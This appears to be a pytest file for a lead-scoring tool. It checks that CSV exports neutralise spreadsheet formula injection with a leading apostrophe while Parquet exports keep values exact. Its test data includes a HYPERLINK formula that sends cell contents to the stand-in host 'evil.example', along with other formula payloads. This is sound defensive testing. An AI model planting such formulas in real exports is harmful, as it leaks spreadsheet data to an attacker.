"""CSV files leadscore writes open in a spreadsheet as text: a cell that starts like a formula gets
a leading ``'`` (scores, lists and account exports, the dashboard's list download). Real DuckDB,
real files."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pyarrow.parquet as pq

from leadscore.storage.csv_cells import FORMULA_STARTS, spreadsheet_safe

BAD = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1 415 555 0100", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"]


def test_text_cells_that_start_like_a_formula_are_prefixed_and_nothing_else_changes(tmp_path: Path) -> None:
    con = duckdb.connect()
    con.execute("CREATE TABLE t (id VARCHAR, note VARCHAR, n INTEGER, tags VARCHAR[])")
    for i, bad in enumerate(BAD):
        con.execute("INSERT INTO t VALUES (?, ?, ?, ?)", [f"k{i}", bad, -i, [bad]])
    con.execute("INSERT INTO t VALUES ('plain', 'a=b, fine', 7, NULL), ('empty', NULL, NULL, NULL)")
    sql = "SELECT * FROM t WHERE n IS NULL OR n > ? ORDER BY id"
    out = tmp_path / "t.csv"
    con.execute(f"COPY ({spreadsheet_safe(con, sql, [-100])}) TO '{out}' (FORMAT csv, HEADER true)", [-100])
    rows = {r["id"]: r for r in csv.DictReader(out.open(newline=""))}
    assert list(next(iter(rows.values()))) == ["id", "note", "n", "tags"]  # columns and their order kept
    for i, bad in enumerate(BAD):
        assert rows[f"k{i}"]["note"] == "'" + bad and rows[f"k{i}"]["n"] == str(-i)  # numbers stay numbers
    assert rows["plain"]["note"] == "a=b, fine" and rows["empty"]["note"] == ""
    assert all(not r[c].startswith(FORMULA_STARTS) for r in rows.values() for c in ("id", "note", "tags"))


def test_lists_and_scores_exports_are_safe_in_csv_and_exact_in_parquet(tmp_path: Path) -> None:
    import leadscore
    from leadscore.demo.build import build_demo
    from leadscore.workflows.lists import export_list
    from leadscore.workspace import Workspace

    root = tmp_path / "ws"
    build_demo(root, contacts=40, events=400, seed=3, history_weeks=1)
    settings = root / "leadscore.yml"
    settings.write_text(settings.read_text().replace(
        "segments: {}", "segments:\n  everyone:\n    when: {not: {property: email, is_empty: true}}"))
    ws = Workspace.load(root)
    with ws.open_store() as store:
        [cid] = store.con.execute("SELECT contact_id FROM scores ORDER BY contact_id LIMIT 1").fetchone()
        store.con.execute("UPDATE contacts SET first_name = ?, company = ? WHERE contact_id = ?",
                          [BAD[0], BAD[3], cid])
        export_list(store, ws, "everyone", tmp_path / "list.csv")
        export_list(store, ws, "everyone", tmp_path / "list.parquet")
    rows = {r["contact_id"]: r for r in csv.DictReader((tmp_path / "list.csv").open(newline=""))}
    assert rows[cid]["first_name"] == "'" + BAD[0] and rows[cid]["company"] == "'" + BAD[3]
    exact = {r["contact_id"]: r for r in pq.read_table(tmp_path / "list.parquet").to_pylist()}
    assert exact[cid]["first_name"] == BAD[0]  # Parquet is data, not a sheet: kept as it is
    with ws.open_store() as store:  # a tier named like a formula (a model may name its tiers anything)
        store.con.execute("UPDATE scores SET tier = '=evil()' WHERE contact_id = ?", [cid])
    leadscore.export_scores(tmp_path / "scores.csv", workspace=ws)
    scores = {r["contact_id"]: r for r in csv.DictReader((tmp_path / "scores.csv").open(newline=""))}
    assert scores[cid]["tier"] == "'=evil()"
    negative = [v for r in scores.values() for k, v in r.items() if k.startswith("group_") and v.startswith("-")]
    assert all(float(v) < 0 for v in negative)  # numbers are numbers: a minus sign stays a minus sign
